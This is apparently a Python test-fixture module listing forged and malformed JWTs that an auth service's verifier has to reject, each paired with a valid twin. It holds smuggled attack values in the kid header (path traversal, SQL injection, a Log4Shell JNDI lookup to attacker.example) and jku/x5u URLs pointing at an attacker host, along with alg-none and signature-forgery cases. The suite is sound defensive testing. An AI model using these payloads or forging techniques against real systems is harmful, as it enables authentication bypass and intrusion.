"""Tokens that must not pass, each with what it gets and a twin without the fault that passes."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from authsvc.model import TokenStatus
from authsvc.signing import base64url
from tests.signing.handmade import Sign, b64, compact, es256, hs256, json_bytes
from tests.verify.workshop import HOUR, NOW, Remove, claims, elliptic_token, header, jti, token, without_removed

S = TokenStatus
CID = "video:1"


@dataclass(frozen=True)
class Attack:
    """``text`` must get ``status``; ``twin`` must be ACTIVE under the same questions."""

    name: str
    text: str
    status: TokenStatus
    twin: str = field(default_factory=token)
    questions: dict[str, Any] = field(default_factory=dict)


def _claim(name: str, bad: object, status: TokenStatus = S.CLAIM_INVALID, **good: Any) -> Attack:
    """A claim with a bad value, beside the same token without the fault."""
    twin = good.pop("twin", {})
    return Attack(
        f"{name} = {_short(bad)}", token(claims(**{**good, name: bad})), status, token(claims(**good, **twin))
    )


def _short(value: object) -> str:
    if value is Remove:
        return "missing"
    text = value if isinstance(value, str) else json.dumps(value)
    return ascii(text if len(text) <= 30 else f"{text[:20]}… of {len(text)}")


NOT_A_TIME: list[object] = [
    NOW + 0.0,
    NOW + 0.5,
    True,
    False,
    None,
    str(NOW),
    "",
    "２０００",
    [NOW],
    {"seconds": NOW},
    -1,
    2**53 + 1,
    2**63,
    2**64,
    10**30,
    float(10**15),
]


def times() -> Iterator[Attack]:
    """Times that are no whole seconds of a sane size."""
    for name in ("exp", "nbf", "iat"):
        twin = {"nbf": NOW} if name == "nbf" else {}
        yield from (_claim(name, value, twin=twin) for value in NOT_A_TIME)
    yield _claim("exp", 0)
    yield _claim("exp", NOW - 5)
    yield _claim("exp", NOW - 6)
    yield _claim("exp", Remove)
    yield _claim("iat", Remove)
    yield Attack("exp as 1e10", token(_with("exp", b"1e10")), S.CLAIM_INVALID)
    yield Attack("exp as 4000000000.0", token(_with("exp", b"4000000000.0")), S.CLAIM_INVALID)
    yield Attack("exp as -0", token(_with("exp", b"-0")), S.CLAIM_INVALID)
    yield Attack("exp with 400 digits", token(_with("exp", b"9" * 400)), S.MALFORMED)
    yield Attack("exp with 5,000 digits", token(_with("exp", b"9" * 5000)), S.MALFORMED)
    yield Attack("exp = 1e400", token(_with("exp", b"1e400")), S.MALFORMED)
    yield Attack("exp = NaN", token(_with("exp", b"NaN")), S.MALFORMED)
    yield Attack("exp = Infinity", token(_with("exp", b"Infinity")), S.MALFORMED)


def _with(name: str, raw: bytes) -> bytes:
    """The good payload with one claim written exactly so."""
    rest = json_bytes(claims(**{name: Remove}))
    return rest[:-1] + f', "{name}": '.encode() + raw + b"}"


NOT_A_TEXT: list[object] = [None, 1, True, 1.5, [], ["sara"], {}, {"id": "sara"}]


def subjects() -> Iterator[Attack]:
    """User ids and subjects that are not one user of ours."""
    bad_ids = ["", " ", "sara ", " sara", "sa ra", "sara\n", "sara\0", "sara/admin", "sara?", "s*", "<sara>", "sára"]
    bad_ids += ["ѕara", "ｓara", "!sara", "!anon ", "sara,eve", 's"a', "s\\a", "s#a", "s%61", "\u202esara"]
    for user_id in bad_ids:
        text = token(claims(user_id=user_id, sub=f"user/{user_id}"))
        yield Attack(f"user_id = {_short(user_id)}", text, S.CLAIM_INVALID)
    yield from (_claim("user_id", value) for value in [*NOT_A_TEXT, Remove])
    yield from (_claim("sub", value) for value in [*NOT_A_TEXT, Remove])
    for sub in ("", "sara", "user/", "user/eve", "user/Sara", "USER/sara", "user/sara ", "user//sara", "guest/sara"):
        yield _claim("sub", sub)
    yield Attack("two users", token(claims(user_id="eve")), S.CLAIM_INVALID)
    twin = token(claims(user_id="a" * 128, sub="user/" + "a" * 128))
    yield Attack("an id of 129", token(claims(user_id="a" * 129, sub="user/" + "a" * 129)), S.CLAIM_INVALID, twin)


def identities() -> Iterator[Attack]:
    """Token ids, session ids and issuers of wrong forms."""
    bad_jtis = [
        "",
        "abc",
        jti() + "=",
        jti()[:-1],
        jti() + "A",
        jti() + "AAAA",
        jti().replace("A", "+", 1),
        " " + jti(),
    ]
    bad_jtis += ["00010203-0405-0607-0809-0a0b0c0d0e0f", jti()[:-1] + "x", b64(bytes(19)), b64(bytes(21))]
    yield from (_claim("jti", value) for value in [*bad_jtis, *NOT_A_TEXT, Remove])
    bad_sids = ["", "00010203-0405-0607-0809-0A0B0C0D0E0F", "000102030405060708090a0b0c0d0e0f", "0"]
    bad_sids += ["{00010203-0405-0607-0809-0a0b0c0d0e0f}", "urn:uuid:00010203-0405-0607-0809-0a0b0c0d0e0f"]
    bad_sids += [" 00010203-0405-0607-0809-0a0b0c0d0e0f", "00010203-0405-0607-0809-0a0b0c0d0e0", "０0010203"]
    yield from (_claim("sid", value) for value in [*bad_sids, *NOT_A_TEXT])
    yield from (_claim("iss", value) for value in [*NOT_A_TEXT, ["authsvc"], Remove])
    for issuer in ("", "Authsvc", "authsvc ", " authsvc", "authsvc/", "https://authsvc", "authsvс", "authsvc\0"):
        yield _claim("iss", issuer, S.ISSUER_MISMATCH)


def people() -> Iterator[Attack]:
    """Roles, names, images and custom data of wrong forms."""
    bad_roles = ["", "Admin", "ADMIN", "1a", "_a", "-a", "a b", "a/b", "a" * 65, "ädmin", "admin\n", "аdmin", "a.b"]
    yield from (_claim("role", value) for value in [*bad_roles, *NOT_A_TEXT])
    for name in ("name", "image"):
        yield from (_claim(name, value, twin={name: "x"}) for value in NOT_A_TEXT)
    no_objects: list[object] = [None, 1, True, "text", [], [{}], 1.5]
    yield from (_claim("custom", value, twin={"custom": {"a": [None, {}]}}) for value in no_objects)


def audiences_and_scopes() -> Iterator[Attack]:
    """Audiences and scopes of wrong shapes."""
    no_audiences: list[object] = [None, 1, True, "", [], [""], [1], [None], {"aud": "acme"}]
    no_audiences += [["acme", "acme"], ["acme", 1], [["acme"]]]
    yield from (_claim("aud", value, twin={"aud": ["acme"]}) for value in no_audiences)
    bad_cids = ["", "video", "video:", ":1", "video:1:2", "video:é", "video/1", "video: 1", "video:1 ", "v!deo:1"]
    bad_cids += ["video:*", "*:*", "*", "v" * 65 + ":1", "video:" + "1" * 129, "video:1\n", "ｖideo:1", "video\0:1"]
    lists: list[object] = [[cid] for cid in bad_cids]
    lists += [None, CID, 1, True, {}, {"0": CID}, [], [1], [None], [[CID]], [CID, CID], [CID, ""]]
    lists += [[f"video:{number}" for number in range(101)]]
    for name, question in (("call_cids", "call_cid"), ("channel_cids", "channel_cid")):
        for value in lists:
            twin = token(claims(**{name: [CID]}))
            bad = token(claims(**{name: value}))
            yield Attack(f"{name} = {_short(value)}", bad, S.CLAIM_INVALID, twin, {question: CID})


def names() -> Iterator[Attack]:
    """Claims under names that mean something to others."""
    meanings: list[object] = ["x", {}, None]
    for name in ("scope", "client_id", "cnf", "act", "typ", "kid"):
        yield from (_claim(name, value, twin={f"my_{name}": value}) for value in meanings)
    flags: list[object] = [True, False, None, "", 0]
    yield from (_claim("server", value, S.WRONG_TYPE, twin={"servers": value}) for value in flags)


def payloads() -> Iterator[Attack]:
    """Payloads that are not one strict JSON object."""
    good = json_bytes(claims())
    for name, payload in {
        "nothing": b"",
        "null": b"null",
        "a list": b"[" + good + b"]",
        "a text": json_bytes(good.decode()),
        "a trailing space": good + b" ",
        "a trailing newline": good + b"\n",
        "a trailing NUL": good + b"\0",
        "a trailing letter": good + b"x",
        "twice": good + good,
        "a leading space": b" " + good,
        "a byte order mark": b"\xef\xbb\xbf" + good,
        "UTF-16": good.decode().encode("utf-16"),
        "UTF-16 without a mark": good.decode().encode("utf-16-le"),
        "Latin-1": json.dumps(claims(name="é"), ensure_ascii=False).encode("latin-1"),
        "user_id twice": good[:-1] + b', "user_id": "sara"}',
        "user_id twice, escaped": good[:-1] + b', "\\u0075ser_id": "eve"}',
        "exp twice, the first past": b'{"exp": 1, ' + good[1:],
        "a duplicate deep within": good[:-1] + b', "custom": {"a": [{"b": 1, "b": 2}]}}',
        "a lone surrogate": good[:-1] + b', "name": "\\ud800"}',
        "a lone surrogate as a name": good[:-1] + b', "\\udfff": 1}',
        "NaN within": good[:-1] + b', "custom": {"a": [NaN]}}',
        "1e999 within": good[:-1] + b', "custom": {"a": 1e999}}',
        "a comment": good[:-1] + b"/**/}",
        "a trailing comma": good[:-1] + b",}",
        "single quotes": good.replace(b'"', b"'"),
        "9 levels": good[:-1] + b', "custom": ' + b'{"a": ' * 7 + b"{}" + b"}" * 7 + b"}",
        "2,000 levels": good[:-1] + b', "custom": {"a": ' + b"[" * 2000 + b"]" * 2000 + b"}}",
        "65 members within": json_bytes(claims(custom={f"m{number}": 0 for number in range(65)})),
        "not closed": good[:-1],
        "deflated": b"\x78\x9c\x03\x00\x00\x00\x00\x01",
    }.items():
        yield Attack(f"payload: {name}", token(payload), S.MALFORMED, token(good))
    twin = token(good[:-1] + b', "custom": ' + b'{"a": ' * 6 + b"{}" + b"}" * 6 + b"}")
    yield Attack("9 levels of lists", token(good[:-1] + b', "l": ' + b"[" * 8 + b"]" * 8 + b"}"), S.MALFORMED, twin)
    full = token(claims(**{f"m{number}": 0 for number in range(56)}))
    yield Attack("a 65th member", token(claims(**{f"m{number}": 0 for number in range(57)})), S.MALFORMED, full)


def headers() -> Iterator[Attack]:
    """Headers of other kinds of token, and key ids that are no key of the app."""
    for typ in ("jwt", "Jwt", "JWS", "JWT ", "application/jwt", "svc+jwt", "dpop+jwt", "secevent+jwt", "JWE"):
        yield Attack(f"typ = {typ}", token(head=header(typ=typ)), S.WRONG_TYPE)
    yield Attack("classic claims as at+jwt", token(head=header(typ="at+jwt")), S.CLAIM_INVALID)
    yield Attack("typ missing", token(head=header(typ=Remove)), S.WRONG_TYPE)
    yield Attack("typ empty", token(head=header(typ="")), S.MALFORMED)
    for kid in (
        "HS-KEY",
        "hs-key ",
        "hs-key\0",
        "es-key",
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "x' UNION SELECT 'secret' --",
        "hs-key' OR '1'='1",
        "https://attacker.example/key",
        "${jndi:ldap://attacker.example}",
        "0",
        "k" * 5000,
        "ｈs-key",
    ):
        yield Attack(f"kid = {_short(kid)}", token(head=header(kid=kid)), S.KEY_UNKNOWN)
    yield Attack("kid missing", token(head=header(kid=Remove)), S.KEY_UNKNOWN)
    for kid_value in (1, None, ["hs-key"], {"k": "hs-key"}, True, ""):
        yield Attack(f"kid of another type, {_short(kid_value)}", token(head=header(kid=kid_value)), S.MALFORMED)
    for alg in ("none", "None", "NONE", "nOnE", "hs256", "HS384", "HS512", "ES256", "RS256", "PS256", "EdDSA", "dir"):
        for name, sign in (("signed", hs256), ("unsigned", lambda message: b"")):
            text = token(head=header(alg=alg), sign=sign)
            yield Attack(f"alg = {alg}, {name}", text, S.ALGORITHM_MISMATCH)
    for name, value in {
        "crit": ["exp"],
        "b64": False,
        "zip": "DEF",
        "cty": "JWT",
        "jwk": {"kty": "oct", "k": b64(b"e" * 32)},
        "jku": "https://attacker.example/jwks",
        "x5u": "https://attacker.example/cert",
        "x5c": ["MIIB"],
    }.items():
        yield Attack(f"header with {name}", token(head=header(**{name: value})), S.MALFORMED)
    yield Attack("alg twice", token(head=b'{"alg":"none","alg":"HS256","kid":"hs-key","typ":"JWT"}'), S.MALFORMED)


def texts() -> Iterator[Attack]:
    """Texts that are not one compact token."""
    good = token()
    head, body, tag = good.split(".")
    for name, text in {
        "nothing": "",
        "one segment": head,
        "two segments": f"{head}.{body}",
        "four segments": f"{good}.{tag}",
        "five segments, as encrypted tokens have": f"{head}.{b64(b'key')}.{b64(b'iv')}.{body}.{tag}",
        "a million dots": "." * 1_000_000,
        "8 MB": "A" * 8_000_000,
        "a header of 8 MB": f"{'A' * 8_000_000}.{body}.{tag}",
        "padding": good + "=",
        "a newline": good + "\n",
        "a space": " " + good,
        "a NUL": good + "\0",
        "percent": good.replace(".", "%2E"),
        "JSON serialization": json.dumps({"protected": head, "payload": body, "signature": tag}),
        "full-width dots": good.replace(".", "\uff0e"),
        "a Cyrillic letter": good.replace("a", "а", 1),
        "stray bits": good[:-1] + chr(ord(good[-1]) + 1),
        "with its scheme": f"Bearer {good}",
        "twice": f"{good},{good}",
    }.items():
        yield Attack(f"text: {name}", text, S.MALFORMED)


def signatures() -> Iterator[Attack]:
    """Signatures that others made, or nobody."""
    wrong = S.SIGNATURE_INVALID
    yield Attack("another secret", token(sign=lambda message: hs256(message, b"x" * 32)), wrong)
    yield Attack("an empty secret", token(sign=lambda message: hs256(message, b"")), wrong)
    yield Attack("no signature", token(sign=lambda message: b""), wrong)
    yield Attack("half a tag", token(sign=lambda message: hs256(message)[:16]), wrong)
    yield Attack("a longer tag", token(sign=lambda message: hs256(message) + b"\0"), wrong)
    yield Attack("an elliptic signature", token(sign=es256), wrong)
    head, _, tag = token().split(".")
    eve = token(claims(user_id="eve", sub="user/eve")).split(".")[1]
    yield Attack("the payload of another token", f"{head}.{eve}.{tag}", wrong)
    yield Attack(
        "a header of its own order", compact(b'{"typ":"JWT","kid":"hs-key","alg":"HS256"}', sign=_fixed(tag)), wrong
    )
    yield Attack("an elliptic token of another app", elliptic_token(), S.KEY_UNKNOWN)
    unsigned = without_removed({"alg": "none", "typ": "JWT"})
    yield Attack("alg none without kid", token(head=unsigned, sign=lambda message: b""), S.KEY_UNKNOWN)


def _fixed(tag: str) -> Sign:
    return lambda message: base64url.decode(tag)


def kinds() -> Iterator[Attack]:
    """Tokens of other kinds and other makers."""
    yield Attack("a refresh token", "art1_" + "A" * 52, S.WRONG_TYPE)
    yield Attack("a service credential", "ask1_account_" + "A" * 50, S.WRONG_TYPE)
    development = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyX2lkIjoibHVrZV9za3l3YWxrZXIifQ==.devtoken"
    yield Attack("a development token", development, S.DEVELOPMENT_TOKENS_DISABLED)
    yield Attack("a vendor's server token", token({"server": True}), S.CLAIM_INVALID)
    yield Attack("a vendor's server token with an issuer", token({"server": True, "iss": "authsvc"}), S.WRONG_TYPE)
    yield Attack("a vendor's user token", token({"user_id": "sara", "iss": "authsvc"}), S.CLAIM_INVALID)
    yield Attack("a past token", token(claims(iat=NOW - 2 * HOUR, exp=NOW - HOUR)), S.EXPIRED)
    yield Attack(
        "a token for elsewhere", token(claims(aud="elsewhere")), S.AUDIENCE_MISMATCH, token(claims(aud="acme"))
    )


FAMILIES = (
    times,
    subjects,
    identities,
    people,
    audiences_and_scopes,
    names,
    payloads,
    headers,
    texts,
    signatures,
    kinds,
)
ATTACKS = [attack for family in FAMILIES for attack in family()]
